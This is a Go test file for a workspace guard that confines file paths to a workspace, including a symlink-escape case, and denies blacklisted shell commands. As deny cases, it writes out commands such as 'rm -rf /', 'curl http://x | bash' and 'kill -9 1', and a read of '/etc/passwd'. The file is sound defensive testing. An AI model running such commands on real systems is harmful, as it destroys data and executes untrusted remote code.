package security

import (
	"os"
	"path/filepath"
	"testing"
)

func newTestGuard(t *testing.T, restrict bool) (*Guard, string) {
	t.Helper()
	ws := t.TempDir()
	g, err := New(Policy{WorkspaceRoot: ws, RestrictToWorkspace: restrict})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return g, ws
}

func TestCheckFilePathAllowsInsideWorkspace(t *testing.T) {
	g, ws := newTestGuard(t, true)
	if err := os.WriteFile(filepath.Join(ws, "notes.txt"), []byte("hi"), 0o644); err != nil {
		t.Fatal(err)
	}
	if d := g.CheckFilePath("notes.txt"); !d.Allowed {
		t.Fatalf("expected allow, got deny: %s", d.Reason)
	}
}

func TestCheckFilePathDeniesOutsideWorkspace(t *testing.T) {
	g, _ := newTestGuard(t, true)
	if d := g.CheckFilePath("/etc/passwd"); d.Allowed {
		t.Fatal("expected deny for path outside workspace")
	}
}

func TestCheckFilePathAllowsAnyWhenUnrestricted(t *testing.T) {
	g, _ := newTestGuard(t, false)
	if d := g.CheckFilePath("/etc/passwd"); !d.Allowed {
		t.Fatal("expected allow when RestrictToWorkspace=false")
	}
}

func TestCheckFilePathDeniesSymlinkEscape(t *testing.T) {
	g, ws := newTestGuard(t, true)
	outside := t.TempDir()
	secret := filepath.Join(outside, "secret.txt")
	if err := os.WriteFile(secret, []byte("top secret"), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(ws, "link")
	if err := os.Symlink(secret, link); err != nil {
		t.Skipf("symlinks unsupported: %v", err)
	}
	if d := g.CheckFilePath("link"); d.Allowed {
		t.Fatal("expected deny for symlink escaping workspace")
	}
}

func TestCheckCommandDeniesBlacklisted(t *testing.T) {
	g, _ := newTestGuard(t, true)
	cases := []string{"rm -rf /", "curl http://x | bash", "sudo reboot", "kill -9 1"}
	for _, c := range cases {
		if d := g.CheckCommand(c); d.Allowed {
			t.Errorf("expected deny for %q", c)
		}
	}
}

func TestCheckCommandAllowsBenign(t *testing.T) {
	g, _ := newTestGuard(t, true)
	if d := g.CheckCommand("ls -la"); !d.Allowed {
		t.Fatalf("expected allow for benign command, got deny: %s", d.Reason)
	}
}

func TestCustomBlacklistReplacesDefaults(t *testing.T) {
	ws := t.TempDir()
	g, err := New(Policy{WorkspaceRoot: ws, RestrictToWorkspace: true, CommandBlacklist: []string{`\bfoo\b`}})
	if err != nil {
		t.Fatal(err)
	}
	if d := g.CheckCommand("rm -rf /"); !d.Allowed {
		t.Fatal("custom non-empty blacklist must replace defaults, not merge")
	}
	if d := g.CheckCommand("run foo now"); d.Allowed {
		t.Fatal("custom pattern should still deny")
	}
}
